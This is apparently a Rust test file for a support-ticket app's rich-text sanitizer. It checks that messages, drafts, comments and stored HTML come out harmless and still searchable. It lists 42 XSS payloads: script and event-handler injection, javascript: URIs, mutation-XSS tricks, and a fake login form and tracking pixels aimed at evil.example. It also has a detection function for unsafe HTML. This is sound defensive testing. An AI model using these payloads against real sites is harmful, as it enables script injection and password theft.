//! Texts with formatting: harmless for whoever reads them, plain for whoever wants them plain.

use serde_json::json;

use super::{list, path};
use crate::support::houses;

/// Each tries something else.
const ATTACKS: [&str; 42] = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a></svg>",
    "<svg><set attributeName=onmouseover to=alert(1)>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math href=javascript:alert(1)>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href='//evil.example/x'>x</a>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src=https://evil.example/x>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'; body{display:none}</style>",
    "<p style='background:url(https://evil.example/x)'>x</p>",
    "<div style='position:fixed;inset:0;z-index:9999'>x</div>",
    "<img src=https://evil.example/pixel.png>",
    "<img srcset='https://evil.example/pixel.png 2x' src=data:image/png;base64,AAAA>",
    "<picture><source srcset=https://evil.example/x><img></picture>",
    "<video src=https://evil.example/x autoplay poster=https://evil.example/y></video>",
    "<audio src=https://evil.example/x autoplay></audio>",
    "<form action=https://evil.example/><input name=password><button>Sign in</button></form>",
    "<p id=main class=dialog name=cookie>x</p>",
    "<a id=defaultView name=location href=https://ok.example/>x</a>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<table background=https://evil.example/x><td background=https://evil.example/y>x</table>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<input autofocus onfocus=alert(1)><marquee onstart=alert(1)>x</marquee>",
];

/// Whatever a browser could run, load or be sent away by.
fn is_harmless(html: &str) -> bool {
    let lower = html.to_lowercase();
    let mut tags = lower.split('<').skip(1).map(|tag| tag.split('>').next().unwrap_or_default());
    tags.all(|tag| {
        let rest = tag.split_once(' ').map_or("", |(_, rest)| rest);
        let names = [
            "script", "svg", "math", "iframe", "style", "form", "object", "embed", "base", "meta",
            "link",
        ];
        let runs = names.iter().any(|name| tag.trim_start_matches('/').starts_with(name));
        let asks = [
            " on",
            "style=",
            "id=",
            "class=",
            "srcset",
            "background",
            "javascript",
            "data:",
            "evil",
        ];
        !runs && !asks.iter().any(|ask| format!(" {rest}").contains(ask))
    })
}

#[actix_web::test]
async fn what_is_written_harms_no_reader_at_any_door() {
    for house in houses().await {
        let cast = &house.cast;
        let (ada, grace) = (house.contact(cast.ada).await, house.staff(cast.grace).await);
        let desk = format!("/api/desk/tickets/{}", cast.adas);
        for (at, attack) in ATTACKS.iter().enumerate() {
            let body = json!({ "rich_text": format!("<p>Hello {at}</p>{attack}") });
            let (key, place) = (format!("k{at}"), path(cast.adas, ""));
            let sent = [
                ada.post(&format!("{place}/messages"), &key, &body).await,
                grace.post(&format!("{desk}/messages"), &key, &body).await,
                grace.post(&format!("{desk}/comments"), &format!("c{at}"), &body).await,
            ];
            let draft = json!({ "version": at, "rich_text": attack });
            let drafts = [
                ada.put(&format!("{place}/draft"), &draft).await,
                grace.put(&format!("{desk}/drafts/reply"), &draft).await,
            ];
            for answer in sent.iter().chain(&drafts) {
                assert!([200, 201].contains(&answer.status), "{attack}: {}", answer.text());
                let html = answer.json()["rich_text"].as_str().expect("HTML").to_owned();
                assert!(is_harmless(&html), "{attack} became {html}");
            }
            let once = sent[0].json()["rich_text"].clone();
            let body = json!({ "rich_text": once });
            let again = ada.post(&format!("{place}/messages"), &format!("a{at}"), &body).await;
            assert_eq!(again.json()["rich_text"], once, "{attack} twice");
        }
        // What reached storage on another way is made harmless when it is read.
        let html =
            "<p>In<img src=https://evil.example/x onerror=alert(1)><script>alert(1)</script></p>";
        cast.change(&house.db, &format!("UPDATE message SET rich_text = '{html}'")).await;
        for (person, url) in
            [(&ada, path(cast.adas, "/messages")), (&grace, format!("{desk}/timeline"))]
        {
            let page = person.get(&url).await.json();
            let all = page["messages"].as_array().or(page["entries"].as_array()).expect("a list");
            for one in all.iter().filter(|one| one["kind"] != "comment") {
                assert_eq!(one["rich_text"], "<p>In<img></p>", "{one}");
            }
        }
    }
}

#[actix_web::test]
async fn formatting_does_not_keep_words_from_being_found() {
    for house in houses().await {
        let cast = &house.cast;
        let ada = house.contact(cast.ada).await;
        let html = "<p>The pa<b>per</b>clip <i>jammed</i></p><ul><li>twice</li></ul>";
        let sent =
            ada.post(&path(cast.adas, "/messages"), "k", &json!({ "rich_text": html })).await;
        assert_eq!(sent.json()["text"], "The paperclip jammed\n\n- twice");
        assert_eq!(sent.json()["rich_text"], html);
        for words in ["paperclip", "jammed%20twice"] {
            assert_eq!(list(&ada, &format!("?q={words}")).await, [cast.adas.to_string()]);
        }
        let found = ada.get("/api/portal/support/tickets?q=paperclip").await.json();
        let snippet =
            found["tickets"][0]["snippet"]["text"].as_str().expect("a snippet").to_owned();
        assert!(snippet.contains("The paperclip jammed"), "{snippet}");
        let timeline = house.staff(cast.grace).await;
        let timeline = timeline.get(&format!("/api/desk/tickets/{}/timeline", cast.adas)).await;
        assert_eq!(timeline.json()["entries"][0]["rich_text"], html);
    }
}

#[actix_web::test]
async fn images_are_files_of_their_own_message() {
    for house in houses().await {
        let cast = &house.cast;
        let ada = house.contact(cast.ada).await;
        let uploads = "/api/portal/support/uploads";
        let png = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0";
        let file = ada.upload(&format!("{uploads}?name=a.png"), png).await.json();
        let file = file["id"].as_str().expect("an id").to_owned();
        let image = |id: &str| format!("<p>See <img src=\"{uploads}/{id}\" alt=\"a.png\"></p>");
        let body = json!({ "rich_text": image(&file), "attachments": [file] });
        let sent = ada.post(&path(cast.adas, "/messages"), "k", &body).await.json();
        let shown = format!("/api/portal/support/attachments/{file}");
        assert_eq!(sent["rich_text"], format!("<p>See <img src=\"{shown}\" alt=\"a.png\"></p>"));
        assert_eq!(sent["text"], "See [a.png]");
        assert_eq!(ada.get(&shown).await.status, 200);
        // The image of another message, whoever may read it, is not shown.
        let body = json!({ "rich_text": image(&file) });
        let sent = ada.post(&path(cast.adas, "/messages"), "l", &body).await.json();
        assert_eq!(sent["rich_text"], "<p>See <img alt=\"a.png\"></p>");
        let grace = house.staff(cast.grace).await;
        let timeline = grace.get(&format!("/api/desk/tickets/{}/timeline", cast.adas)).await.text();
        assert!(timeline.contains(&format!("/api/desk/attachments/{file}")), "{timeline}");
    }
}

#[actix_web::test]
async fn a_text_comes_in_one_form_and_is_not_empty() {
    for house in houses().await {
        let ada = house.contact(house.cast.ada).await;
        let (url, before) = (path(house.cast.adas, "/messages"), house.count("message").await);
        let long = "x".repeat(256 * 1024 + 1);
        for (field, body) in [
            ("text", json!({})),
            ("text", json!({ "text": "a", "rich_text": "<p>b</p>" })),
            ("rich_text", json!({ "rich_text": "<p> </p><script>a</script>" })),
            ("rich_text", json!({ "rich_text": "<p>a\u{7}</p>" })),
            ("rich_text", json!({ "rich_text": long })),
        ] {
            let answer = ada.post(&url, "k", &body).await;
            assert_eq!(answer.status, 422, "{}", answer.text());
            assert_eq!(answer.json()["errors"][0]["field"], field, "{}", answer.text());
        }
        assert_eq!(house.count("message").await, before);
        let form = json!({ "subject": "Hello", "rich_text": "<p>It <b>burns</b></p>" });
        let filed = ada.post("/api/portal/support/tickets", "k", &form).await.json();
        let shown = format!("/api/portal/support/tickets/{}", filed["id"].as_str().expect("an id"));
        let shown = ada.get(&shown).await;
        let first = shown.json()["conversation"]["messages"][0].clone();
        assert_eq!((&first["text"], &first["rich_text"]), (&json!("It burns"), &form["rich_text"]));
    }
}
